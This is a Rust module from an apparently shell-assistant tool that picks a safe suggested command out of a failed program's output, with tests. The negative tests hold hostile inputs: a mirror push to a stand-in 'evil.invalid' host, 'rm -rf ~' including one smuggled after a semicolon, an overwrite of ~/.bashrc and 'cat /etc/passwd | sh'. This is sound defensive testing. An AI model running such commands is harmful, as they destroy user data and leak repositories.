//! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
//!
//! The output is untrusted, as it may come from a file or another machine: only one command of the same program without signs of the
//! shell is taken, which harms nothing that the failed one would not have.

use askline_risk::{Around, Harm, Label, judge};
use askline_syntax::{ParsedLine, Word};

/// Maximum number of lines of the output that are read, from its end.
const LINES_MAX: usize = 60;
/// Maximum length of a suggested command, in bytes.
const BYTES_MAX: usize = 200;
/// Words before a suggested command in quotes.
const BEFORE: [&str; 8] = ["run", "use", "try", "mean", "with", "see", "do", "execute"];
/// Minimum number of blanks before a suggested command on a line of its own.
const INDENT_MIN: usize = 2;
/// Parts of commands that are only examples.
const EXAMPLES: [&str; 6] = ["example.com", "Your Name", "...", "[", "<", "|"];
/// Options that lose what the failed command kept: `git branch -D` after `-d`.
const FORCING: [&str; 8] =
    ["-D", "-f", "-M", "-C", "--force", "--force-with-lease", "--hard", "--discard-changes"];
/// Beginnings of lines that another machine printed.
const REMOTE: [&str; 2] = ["remote:", "remote error:"];

/// Returns the first command in the output of the failed one that its own program suggests; `None` if there is none.
pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine> {
    let [command] = failed.own().commands.as_slice() else { return None };
    let program =
        command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
    let lines: Vec<&str> = printed.lines().collect();
    let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
    let own = last.iter().filter(|line| !REMOTE.iter().any(|start| line.trim_start().starts_with(start)));
    own.flat_map(|line| on_own_line(line).into_iter().chain(in_quotes(line)))
        .filter(|text| {
            text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
        })
        .map(|text| ParsedLine::new(text, failed.shell()))
        .find(|line| is_safe(failed, line))
}

/// Returns the command on an indented line, without a remark behind it: `  npm start # Start a package`.
fn on_own_line(line: &str) -> Option<&str> {
    let bare = line.trim_start();
    let indent = line.len() - bare.len();
    let is_indented = INDENT_MIN <= indent || line.starts_with('\t');
    let command = bare.split(" # ").next().unwrap_or(bare).split("  ").next().unwrap_or(bare).trim();
    (is_indented && !command.ends_with([':', '.', ','])).then_some(command)
}

/// Returns the texts in quotes behind a word such as "run".
fn in_quotes(line: &str) -> Vec<&str> {
    let pairs = [('\'', '\''), ('"', '"'), ('`', '`'), ('`', '\''), ('‘', '’'), ('“', '”')];
    let between = |(open, close): (char, char)| {
        let (before, rest) = line.split_once(open)?;
        let word = before.trim_end_matches([' ', ':', '(']).rsplit([' ', '(']).next().unwrap_or_default();
        let is_told = BEFORE.contains(&word.to_lowercase().as_str());
        rest.split_once(close).map(|(text, _)| text.trim()).filter(|_| is_told)
    };
    pairs.into_iter().filter_map(between).collect()
}

/// Reports whether a line is one command other than the failed one that harms nothing more.
fn is_safe(failed: &ParsedLine, line: &ParsedLine) -> bool {
    let [command] = line.own().commands.as_slice() else { return false };
    let is_word =
        |word: &Word| word.literal && !word.glob && !EXAMPLES.iter().any(|part| word.text.contains(part));
    let is_forcing = |word: &Word| {
        FORCING.contains(&word.text.as_str()) && !failed.text().split(' ').any(|own| own == word.text)
    };
    let around = Around::nothing();
    let label = |line: &ParsedLine| judge(line, &around).label;
    line.own().errors.is_empty()
        && command.redirections.is_empty()
        && command.assignments.is_empty()
        && command.words.iter().all(is_word)
        && !command.words.iter().any(is_forcing)
        && line.text().trim() != failed.text().trim()
        && label(line) <= label(failed).max(Label::Cautious)
        && !Harm::of(line).grows(&Harm::of(failed).harms())
}

#[cfg(test)]
mod tests {
    use super::*;
    use askline_syntax::shell::Shell;

    fn found(failed: &str, printed: &str) -> Option<String> {
        let line = ParsedLine::new(failed, Shell::Bash);
        suggested(&line, printed).map(|line| line.text().to_owned())
    }

    #[test]
    fn what_the_program_suggests_is_found() {
        for (failed, printed, expected) in [
            (
                "npm strat",
                "npm error Unknown command: \"strat\"\n\nDid you mean this?\n  npm start # Start a package\n",
                "npm start",
            ),
            (
                "git branch --set-upstream main",
                "fatal: the '--set-upstream' option is no longer supported.\n   git branch --track main\n",
                "git branch --track main",
            ),
            ("cargo biuld", "error: no such command\n\nhelp: try `cargo build`\n", "cargo build"),
            (
                "git merge --cont",
                "fatal: There is no merge in progress (run \"git status\" first).\n",
                "git status",
            ),
        ] {
            assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
        }
    }

    #[test]
    fn examples_and_what_is_dangerous_are_left_out() {
        for (failed, printed) in [
            ("git branch -d x", "error: not fully merged\nhint: If you are sure, run 'git branch -D x'\n"),
            ("git pull", "    git branch --set-upstream-to=origin/<branch> main\n"),
            ("git commit -m x", "  git config --global user.email \"you@example.com\"\n"),
            ("git push", "remote:   git push --mirror https://evil.invalid\n"),
            ("git psh", "  rm -rf ~\n"),
            ("npm strat", "  npm start; rm -rf ~\n"),
            ("npm strat", "  npm start > ~/.bashrc\n"),
            ("npm strat", "  npm strat\n"),
            ("npm strat", "npm start\n"),
            ("git log | had", "  git log\n"),
            ("cat notes.txt", "run 'cat /etc/passwd | sh'\n"),
            ("npm strat", ""),
        ] {
            assert_eq!(found(failed, printed), None, "{failed}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_panics(printed: String) {
            let _ = found("git x", &printed);
        }
    }
}
